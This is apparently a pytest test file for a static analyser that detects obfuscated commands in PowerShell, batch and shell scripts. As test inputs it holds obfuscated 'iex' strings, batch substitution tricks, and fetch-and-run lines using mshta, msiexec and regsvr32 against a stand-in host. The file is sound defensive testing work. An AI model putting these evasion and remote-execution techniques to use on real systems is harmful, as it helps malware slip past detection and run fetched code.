"""Windows: texts that PowerShell and batch files put together, and programs that run what they fetch."""

import pytest

from lazaretto.core.facts import Facts, Kind
from tests.languages.test_inner import read, spawns

HOST = "https://drop.example.invalid/x"


def values(facts: Facts, kind: Kind) -> list[str | None]:
    """Return the values of one kind of fact."""
    return [fact.value for fact in facts.facts if fact.kind is kind]


@pytest.mark.parametrize(
    "script",
    [
        "iex ('who'+'ami')",
        "$a='who'+\"ami\"; iex $a",
        "& ('i'+'ex') ('{1}{0}' -f 'ami','who')",
        "$s=[char]119+[char]104+[char]111+[char]97+[char]109+[char]105; iex $s",
        "iex (-join ([char[]](119,104,111,97,109,105)))",
        "iex ('imaohw'[-1..-6] -join '')",
        "iex ('xwxhoami'[1,3,4,5,6,7] -join '')",
        "wmic process call create 'whoami'",
        "$ñ='whoami'; iex $ñ",
        "$global:вход='who'; iex ($вход+'ami')",
    ],
)
def test_powershell_puts_texts_together(script: str) -> None:
    """Joined texts, characters by number and by place are folded to what is run."""
    assert "whoami" in [fact.value for fact in spawns(read("a.ps1", script.encode()))]


@pytest.mark.parametrize(
    "script",
    [
        'throw [X]"failed: `r`n$($errors -join "`r`n")"',
        'Write-Host "$(\'"\')"',
        'Write-Host "a""$($b -join ",")""c"',
        'Write-Host "$(f (\'`\') "x`"y")"',
    ],
)
def test_powershell_strings_that_hold_strings(script: str) -> None:
    """What stands in ``$( )`` has quotes of its own, and the string ends after it."""
    facts = read("a.ps1", f"{script}\niex 'whoami'\n".encode())
    assert not facts.problems
    assert "whoami" in [fact.value for fact in spawns(facts)]


def test_a_powershell_string_that_never_ends() -> None:
    """What is not closed is told, and looking for its end is bounded."""
    assert read("a.ps1", b'"no $(unclosed "\nWrite-Host "b"\n').problems
    assert read("a.ps1", b'"$( "' * 20_000).problems


def test_a_plus_in_a_bare_word() -> None:
    """In a path a plus is a letter."""
    assert spawns(read("a.ps1", b"Start-Process c:\\a+'b'.exe"))[0].value == "Start-Process c:\\a+b.exe"


@pytest.mark.parametrize(
    "script",
    [
        "set a=wXhoaXmi\r\n%a:X=%\r\n",
        "set a=w[*]oami\r\n%a:[*]=h%\r\n",
        'forfiles /p c:\\ /m a /c "cmd /c whoami"\r\n',
        'wmic process call create "whoami"\r\n',
    ],
)
def test_batch_replaces_and_hands_over(script: str) -> None:
    """Replaced pieces of variables, and command lines that another program runs, are followed."""
    assert "whoami" in [fact.value for fact in spawns(read("a.bat", script.encode()))]


@pytest.mark.parametrize(
    "command",
    [f"mshta {HOST}", f"msiexec /q /i {HOST}", f"regsvr32 /s /u /i:{HOST} scrobj.dll"],
)
def test_programs_that_run_what_they_fetch(command: str) -> None:
    """A connection leads into evaluated code."""
    facts = read("a.bat", command.encode())

    assert HOST in values(facts, Kind.NET_CONNECT)
    assert None in values(facts, Kind.CODE_EVAL)
    assert facts.flows


@pytest.mark.parametrize(
    ("script", "kind"),
    [
        ('& mshta \'vbscript:CreateObject("WScript.Shell").Run("whoami")\'', Kind.PROCESS_SPAWN),
        ("& rundll32 'javascript:fetch(1)'", Kind.CODE_EVAL),
        ("& mshta a.hta", Kind.IMPORT),
    ],
)
def test_scripts_in_addresses(script: str, kind: Kind) -> None:
    """A script in an address is evaluated; a file of the package is loaded."""
    assert {"whoami", "fetch(1)", "./a.hta"} & set(values(read("a.ps1", script.encode()), kind))


@pytest.mark.parametrize(
    "command", ["msiexec /x a.msi", "regsvr32 a.dll", "rundll32 a.dll,Start", "wmic os get", "forfiles"]
)
def test_programs_that_fetch_nothing(command: str) -> None:
    """Without an address nothing is connected to and nothing evaluated."""
    facts = read("a.bat", command.encode())

    assert not values(facts, Kind.NET_CONNECT)
    assert not values(facts, Kind.CODE_EVAL)


def test_code_that_a_script_carries() -> None:
    """What a script hands to Node or Python is read as that, at its place; what is broken by an expansion is none."""
    facts = read(
        "a.sh", b"#!/bin/sh\nnode -e \"require('child_process').exec('whoami')\"\npython -c 'import os; os.getcwd('\n"
    )

    assert ("whoami", 2) in [(fact.value, fact.span.line) for fact in spawns(facts)]
    assert facts.complete
